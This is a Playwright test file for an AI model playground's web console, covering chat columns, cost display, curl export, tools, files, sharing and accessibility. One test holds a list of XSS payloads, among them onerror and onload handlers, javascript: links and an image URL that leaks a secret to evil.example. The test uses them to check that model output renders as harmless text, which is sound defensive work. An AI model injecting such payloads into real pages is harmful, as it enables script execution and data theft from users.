import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { promisify } from "node:util";
import AxeBuilder from "@axe-core/playwright";
import type { Locator, Page } from "@playwright/test";
import { expect, makePerson, type Person, signIn, test, type World } from "./fixtures";

const run = promisify(execFile);
const MODEL = "openai/gpt-4o-mini";
const TEST_MODE = "/console/playground?models=sandbox/echo,sandbox/reasoning&mode=test";

let person: Person;
async function enter(page: Page, world: World, to = TEST_MODE): Promise<void> {
  person ??= await makePerson(world, "--credit", "10.00");
  await signIn(page, person, to);
}

const column = (page: Page, number: number): Locator =>
  page.getByRole("region", { name: `Model ${number}`, exact: true });
const message = (page: Page): Locator => page.getByRole("textbox", { name: "Message", exact: true });

async function say(page: Page, text: string): Promise<void> {
  await message(page).fill(text);
  await message(page).press("Control+Enter");
}

/** The conversation is in the account, and its address says which. */
async function saved(page: Page): Promise<void> {
  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
  await expect(page).toHaveURL(/\?c=conv_/);
}

test("two models answer side by side, a message is edited, a model is added and asked alone", async ({
  page,
  world,
}) => {
  await enter(page, world);
  await say(page, "Say **hello**");
  for (const number of [1, 2]) {
    await expect(column(page, number).locator("strong", { hasText: "hello" })).toBeVisible();
    await expect(column(page, number).getByText("$0.00").last()).toBeVisible();
  }
  await expect(column(page, 2).getByText("Reasoning").first()).toBeVisible();

  await column(page, 1).getByRole("button", { name: "Edit" }).click();
  await column(page, 1).getByLabel("Edit the message").fill("Now something else");
  await column(page, 1).getByRole("button", { name: "Send again" }).click();
  for (const number of [1, 2]) {
    await expect(column(page, number).getByText("Now something else", { exact: true })).toHaveCount(2);
    await expect(column(page, number).getByText("hello")).toHaveCount(0);
  }

  await page.getByRole("button", { name: "Add a model" }).click();
  await column(page, 3).getByRole("combobox").fill("sandbox/json");
  await column(page, 3).getByRole("button", { name: "Try again" }).click();
  await expect(column(page, 3).getByText('{"echo":"Now something else"}')).toBeVisible();
  await column(page, 2).getByRole("button", { name: "Remove sandbox/reasoning" }).click();
  await expect(page.getByRole("region", { name: /^Model \d$/ })).toHaveCount(2);
});

test("tokens and cost on screen are the charge of the request's record, exactly", async ({ page, world }) => {
  world.upstream.behave({ promptTokens: 1234, completionTokens: 321, cachedTokens: 200, pieces: ["Two", " words"] });
  await enter(page, world, `/console/playground?models=${MODEL}`);
  const answered = page.waitForResponse("**/try/chat/completions");
  await say(page, "Hello");
  const id = (await answered).headers()["x-generation-id"];
  await expect(column(page, 1).getByRole("link", { name: "Details" })).toHaveAttribute(
    "href",
    `/console/activity/${id}`,
  );
  const record = await (await page.request.get(`/api/console/generation?id=${id}`)).json();
  expect(record).toMatchObject({ tokens_prompt: 1234, tokens_completion: 321, tokens_cached: 200 });
  expect(Number(record.charge.amount)).toBeGreaterThan(0);
  const figures = column(page, 1).locator("dl");
  await expect(figures).toContainText("1,234");
  await expect(figures).toContainText("321");
  await expect(figures).toContainText("200");
  await expect(figures.locator("data")).toHaveAttribute("value", record.charge.amount);

  await say(page, "And again");
  await expect(column(page, 1).getByText("Two words", { exact: true })).toHaveCount(2);
  const charges = await column(page, 1).locator("dl data").all();
  expect(charges).toHaveLength(2);
  const [total] = await column(page, 1).locator("p data").all();
  const nano = (amount: string | null | undefined) => Math.round(Number(amount) * 1e9);
  const parts = await Promise.all(charges.map((charge) => charge.getAttribute("value")));
  expect(nano(await total?.getAttribute("value"))).toBe(parts.reduce((sum, part) => sum + nano(part), 0));
  world.upstream.reset();
});

test("the exported curl sends the very bytes that the playground sent", async ({ page, world }) => {
  await enter(page, world);
  await page.getByLabel("System prompt").fill('It\'s "quoted"\n$HOME `x` \\ — юникод 🎈');
  await page.getByLabel("temperature", { exact: true }).fill("0.3");
  const sending = page.waitForRequest(
    (request) => request.url().endsWith("/try/chat/completions") && (request.postData() ?? "").includes("sandbox/echo"),
  );
  await say(page, "One 'single' \\n two");
  const sent = (await sending).postDataBuffer();
  await expect(column(page, 1).getByText("One 'single'").last()).toBeVisible();
  await column(page, 1).getByRole("button", { name: "Code" }).click();
  const code = (await page.getByRole("dialog").locator("pre").textContent()) ?? "";

  const received: Buffer[] = [];
  const recorder = createServer(async (request, response) => {
    for await (const chunk of request) received.push(chunk);
    response.end();
  });
  await new Promise<void>((resolve) => recorder.listen(0, "127.0.0.1", resolve));
  const recorderUrl = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`;
  expect(code).toContain(`'${world.app.origin}/v1/chat/completions'`);
  await run("bash", ["-c", code.replace(world.app.origin, recorderUrl)]);
  recorder.close();
  expect(Buffer.concat(received).equals(sent ?? Buffer.alloc(0))).toBe(true);
});

test("tools: problems of a schema are told, calls are answered by hand or at once, the loop goes on", async ({
  page,
  world,
}) => {
  await enter(page, world, "/console/playground?models=sandbox/tool-call&mode=test");
  await page.getByRole("button", { name: "Add tools" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("button", { name: "Insert an example" }).click();
  const schema = dialog.getByLabel("Arguments (JSON Schema)");
  await schema.fill('{"type":"object",\n "properties": {,}}');
  await expect(dialog.getByText("Not valid JSON: line 2, column 17.")).toBeVisible();
  await schema.fill('{"type":"object","properties":{"city":{"type":"strin"}},"required":["town"]}');
  await expect(dialog.getByText('properties.city.type: "strin" is not a JSON Schema type.')).toBeVisible();
  await expect(dialog.getByText('required: there is no property "town".')).toBeVisible();
  await dialog.getByLabel("Name").fill("get weather");
  await expect(dialog.getByText("Latin letters, digits, _ and -, at most 64.")).toBeVisible();
  await dialog.getByRole("button", { name: "Done" }).click();
  await message(page).fill("Oslo");
  await expect(page.getByRole("button", { name: "Send", exact: true })).toBeDisabled();

  await page.getByRole("button", { name: "Edit tools" }).click();
  await dialog.getByLabel("Name").fill("get_weather");
  await schema.fill('{"type":"object","properties":{"city":{"type":"string"}},"required":["city"]}');
  await dialog.getByRole("button", { name: "Done" }).click();
  await say(page, "Oslo");
  await column(page, 1).getByLabel("What get_weather answers").fill("sunny");
  await column(page, 1).getByRole("button", { name: "Send the result" }).click();
  await expect(column(page, 1).getByText("The tool answered: sunny", { exact: true })).toBeVisible();
  await expect(column(page, 1).getByText('"city": "Oslo"')).toBeVisible();

  await page.getByRole("button", { name: "Edit tools" }).click();
  await dialog.getByLabel("Fixed answer").fill("rain, always");
  await dialog.getByRole("button", { name: "Done" }).click();
  await say(page, "Bergen");
  await expect(column(page, 1).getByText("The tool answered: rain, always", { exact: true })).toBeVisible();
});

test("a stream is stopped, a failure tells its request id and is tried again", async ({ page, world }) => {
  await enter(page, world, "/console/playground?models=sandbox/slow,sandbox/rate-limited&mode=test");
  await say(page, "one two three four five six seven eight nine ten ".repeat(20));
  await expect(column(page, 1).getByText("Streaming …")).toBeVisible();
  await column(page, 1).getByRole("button", { name: "Stop" }).click();
  await expect(column(page, 1).getByText("Stopped. What was made until then is charged.")).toBeVisible();
  const alert = column(page, 2).getByRole("alert");
  await expect(alert).toContainText("limiting requests");
  await expect(alert).toContainText(/Request id: [\w-]{20,}/);
  const again = page.waitForRequest("**/try/chat/completions");
  await column(page, 2).getByRole("button", { name: "Try again" }).click();
  await again;
  await expect(alert).toContainText("limiting requests");
});

test("files come by button, paste and drop; what a model does not take is not sent, and said", async ({
  page,
  world,
}) => {
  world.upstream.reset();
  await enter(page, world, `/console/playground?models=${MODEL},sandbox/echo&mode=test`);
  const pixel = Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
  );
  await page.getByTestId("files").setInputFiles([
    { name: "dot.png", mimeType: "image/png", buffer: pixel },
    { name: "tool.exe", mimeType: "application/x-msdownload", buffer: pixel },
  ]);
  await expect(page.getByText("tool.exe cannot be sent")).toBeVisible();
  await hand(message(page), "paste", "pasted.wav", "audio/wav");
  await hand(page.getByRole("form", { name: "New message" }), "drop", "notes.txt", "text/plain");
  const files = page.getByRole("form", { name: "New message" }).getByRole("listitem");
  await expect(files).toHaveText(["dot.png", "pasted.wav", "notes.txt"]);

  const sending = page.waitForRequest(
    (request) => request.url().endsWith("/try/chat/completions") && (request.postData() ?? "").includes(MODEL),
  );
  await say(page, "Look");
  const { content } = JSON.parse((await sending).postData() ?? "").messages[0];
  expect(content.map(({ type }: { type: string }) => type)).toEqual(["text", "image_url", "text"]);
  expect(content[1].image_url.url).toBe(`data:image/png;base64,${pixel.toString("base64")}`);
  expect(content[2].text).toContain("from a drop");
  await expect(column(page, 1).getByText("Not sent, the model does not take it: pasted.wav")).toBeVisible();
  await expect(column(page, 2).getByText("Not sent")).toHaveCount(0);
});

/** Pastes or drops a file, as the browser would. */
async function hand(target: Locator, kind: "paste" | "drop", name: string, type: string): Promise<void> {
  await target.evaluate(
    (element, given) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([`from a ${given.kind}`], given.name, { type: given.type }));
      const shared = { bubbles: true, cancelable: true };
      element.dispatchEvent(
        given.kind === "drop"
          ? new DragEvent("drop", { ...shared, dataTransfer: transfer })
          : new ClipboardEvent("paste", { ...shared, clipboardData: transfer }),
      );
    },
    { kind, name, type },
  );
}

test("a conversation is kept, found, renamed, downloaded and deleted; its address brings it back", async ({
  page,
  world,
}) => {
  await enter(page, world);
  await page.getByLabel("System prompt").fill("Be kind.");
  await say(page, "A kept conversation about otters");
  await saved(page);
  const address = page.url();
  await page.goto("/console/playground");
  await page.goto(address);
  await expect(column(page, 1).getByText("A kept conversation about otters", { exact: true })).toHaveCount(2);
  await expect(page.getByLabel("System prompt")).toHaveValue("Be kind.");
  await say(page, "Second message");
  await expect(column(page, 2).getByText("Second message", { exact: true })).toHaveCount(2);
  await saved(page);

  await page.getByRole("button", { name: "More actions" }).click();
  await page.getByRole("menuitem", { name: "Rename" }).click();
  await page.getByRole("dialog").getByLabel("Name").fill("Otters");
  await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();
  await expect(page.getByRole("heading", { name: "Otters" })).toBeVisible();

  await page.getByRole("button", { name: "History" }).click();
  const history = page.getByRole("dialog");
  await history.getByLabel("Search").fill("SECOND mess");
  await expect(history.getByRole("listitem")).toHaveCount(1);
  await history.getByLabel("Search").fill("nobody said this");
  await expect(history.getByText("Nothing was found.")).toBeVisible();
  await history.getByLabel("Search").fill("otters");
  await history.getByRole("button", { name: "Actions for Otters" }).click();
  const downloading = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: "Download as JSON" }).click();
  const download = await downloading;
  expect(download.suggestedFilename()).toBe("Otters.json");
  const file = JSON.parse(readFileSync(await download.path(), "utf8"));
  expect(file).toMatchObject({ title: "Otters", version: 1, settings: { system: "Be kind." } });
  expect(file.turns.map(({ text }: { text: string }) => text)).toEqual([
    "A kept conversation about otters",
    "Second message",
  ]);

  await history.getByRole("button", { name: "Actions for Otters" }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Delete" }).click();
  await page.waitForURL((url) => !url.search.includes("conv_"));
  await page.goto(address);
  await expect(page.getByRole("heading", { name: "There is no such conversation" })).toBeVisible();
});

test("two tabs do not overwrite each other", async ({ page, world }) => {
  await enter(page, world);
  await say(page, "First");
  await saved(page);
  const other = await page.context().newPage();
  await other.goto(page.url());
  await say(other, "From the other tab");
  await expect(other.getByText("Saved", { exact: true })).toBeVisible();
  await expect(column(other, 1).getByText("From the other tab", { exact: true })).toHaveCount(2);
  await expect(async () => {
    const list = await (await page.request.get("/api/console/conversations?search=other%20tab")).json();
    expect(list.data).toHaveLength(1);
  }).toPass();
  await say(page, "From this tab");
  await expect(page.getByText("It was changed in another tab.")).toBeVisible();
  const address = page.url();
  await page.getByRole("button", { name: "Keep as a new conversation" }).click();
  await saved(page);
  expect(page.url()).not.toBe(address);
});

test("a share link shows the conversation to anybody in both languages, until it is revoked", async ({
  page,
  browser,
  world,
}) => {
  await enter(page, world);
  await say(page, "For everybody to read");
  await saved(page);
  await page.getByRole("button", { name: "Share" }).click();
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByText("It is not shared.")).toBeVisible();
  await dialog.getByRole("button", { name: "Create a link" }).click();
  const link = (await dialog.getByTestId("share-link").textContent()) ?? "";
  expect(link).toMatch(/\/share\/[\w-]{43}$/);

  const stranger = await browser.newContext({ baseURL: world.app.origin });
  const reader = await stranger.newPage();
  const shown = await reader.goto(link);
  expect(shown?.status()).toBe(200);
  await expect(reader.getByText("For everybody to read").first()).toBeVisible();
  await expect(reader.locator('meta[name="robots"]')).toHaveAttribute("content", /noindex/);
  await expect(reader.locator('meta[name="referrer"]')).toHaveAttribute("content", "no-referrer");
  await expect(reader.getByRole("button", { name: /Edit|Try again|Send/ })).toHaveCount(0);
  expect(await shown?.text()).not.toContain("gen-");
  expect(await violationsOf(reader)).toEqual([]);
  const path = new URL(link).pathname;
  await reader.goto(`/ru${path}`);
  await expect(reader.getByText("Диалог, которым кто-то поделился.")).toBeVisible();

  await dialog.getByRole("button", { name: "Revoke" }).click();
  await expect(dialog.getByText("It is not shared.")).toBeVisible();
  for (const address of [path, `/ru${path}`]) expect((await reader.goto(address))?.status()).toBe(404);
  await expect(reader.getByText("Ссылка никуда не ведёт").first()).toBeVisible();
  await stranger.close();
});

const HOSTILE = [
  '<img src="https://evil.example/x.png" onerror="window.pwned=1">',
  "<script>window.pwned=1</script><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "[click](javascript:window.pwned=1) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)",
  "![picture](https://evil.example/leak.png?q=secret)",
  "<a href='javascript:window.pwned=1'>raw</a> <svg onload=window.pwned=1> <style>*{display:none}</style>",
  "[fine](https://example.com/page)",
].join("\n\n");

test("hostile output is text: nothing runs, nothing is fetched, no link leads into the page", async ({
  page,
  world,
}) => {
  await enter(page, world, "/console/playground?models=sandbox/echo&mode=test");
  const strangers: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(world.app.origin)) strangers.push(request.url());
  });
  page.on("dialog", (dialog) => strangers.push(dialog.message()));
  await say(page, HOSTILE);
  const talk = page.getByRole("region", { name: "Conversation with model 1" });
  await expect(talk.getByRole("link", { name: "fine" })).toHaveAttribute("href", "https://example.com/page");
  await expect(talk.locator("img, script, iframe, svg, style, object, embed, form[action]")).toHaveCount(0);
  const links = await talk.locator("a").evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
  expect(links.every((protocol) => protocol === "https:" || protocol === "http:")).toBe(true);
  await expect(talk.getByText("onerror=").first()).toBeVisible();
  await saved(page);
  await page.reload();
  await expect(talk.getByRole("link", { name: "fine" })).toBeVisible();
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
  expect(strangers).toEqual([]);
});

const violationsOf = async (page: Page): Promise<string[]> => {
  const { violations } = await new AxeBuilder({ page })
    .withTags(["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"])
    .analyze();
  return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 200)).join(" | ")}`);
};

for (const look of [
  { name: "desktop, light", viewport: { width: 1280, height: 900 }, colorScheme: "light" },
  { name: "phone, dark", viewport: { width: 360, height: 780 }, colorScheme: "dark" },
] as const) {
  test(`no barriers with answers, failures and dialogs open: ${look.name}`, async ({ browser, world }) => {
    const context = await browser.newContext({ ...look, baseURL: world.app.origin });
    const page = await context.newPage();
    await enter(page, world, "/console/playground?models=sandbox/tool-call,sandbox/rate-limited&mode=test");
    const fits = async (what: string) => {
      expect.soft(await violationsOf(page), what).toEqual([]);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect.soft(overflow, `${what}: wider than the screen`).toBeLessThanOrEqual(0);
    };
    if (look.viewport.width < 600) await page.getByText("Request", { exact: true }).click();
    await page.getByRole("button", { name: "Add tools" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Insert an example" }).click();
    await page.getByRole("dialog").getByLabel("Arguments (JSON Schema)").fill("{");
    await fits("tools");
    await page.getByRole("dialog").getByLabel("Arguments (JSON Schema)").fill('{"type":"object"}');
    await page.getByRole("dialog").getByRole("button", { name: "Done" }).click();
    await say(page, "A long word: " + "x".repeat(300));
    await expect(column(page, 1).getByLabel("What get_weather answers")).toBeVisible();
    await saved(page);
    await fits("answers");
    for (const name of ["History", "Share", "Code"]) {
      await page.getByRole("button", { name, exact: true }).first().click();
      await expect(page.getByRole("dialog")).toBeVisible();
      await page.waitForTimeout(300);
      await fits(name);
      await page.keyboard.press("Escape");
    }
    await context.close();
  });
}

test("the whole flow by keyboard", async ({ page, world }) => {
  await enter(page, world, "/console/playground?models=sandbox/echo&mode=test");
  const reach = async (target: Locator) => {
    for (let presses = 0; presses < 80; presses++) {
      if (await target.evaluate((element) => element === document.activeElement).catch(() => false)) return;
      await page.keyboard.press("Tab");
    }
    throw new Error(`Tab never reached ${target}`);
  };
  await page.locator("#main").focus();
  await reach(page.getByRole("combobox", { name: "Model 1" }));
  await page.keyboard.press("Control+A");
  await page.keyboard.type("sandbox/reasoning");
  await reach(message(page));
  await page.keyboard.type("By keyboard");
  await page.keyboard.press("Control+Enter");
  await expect(column(page, 1).getByText("By keyboard", { exact: true })).toHaveCount(2);
  await expect(column(page, 1).getByTestId("announcer")).toContainText("sandbox/reasoning: By keyboard");
  await saved(page);

  await page.locator("#main").focus();
  await reach(page.getByRole("button", { name: "Edit", exact: true }));
  await page.keyboard.press("Enter");
  await expect(page.getByLabel("Edit the message")).toBeFocused();
  await page.keyboard.type(", again");
  await reach(page.getByRole("button", { name: "Send again" }));
  await page.keyboard.press("Enter");
  await expect(column(page, 1).getByText(", again").first()).toBeVisible();

  await page.locator("#main").focus();
  await reach(page.getByRole("button", { name: "History" }));
  await page.keyboard.press("Enter");
  await expect(page.getByRole("dialog").getByLabel("Search")).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(page.getByRole("button", { name: "History" })).toBeFocused();
  await reach(page.getByRole("button", { name: "Share" }));
  await page.keyboard.press("Enter");
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.keyboard.press("Escape");
  await reach(page.getByRole("button", { name: "Code" }));
  await page.keyboard.press("Enter");
  await expect(page.getByRole("dialog")).toContainText("curl -N");
});
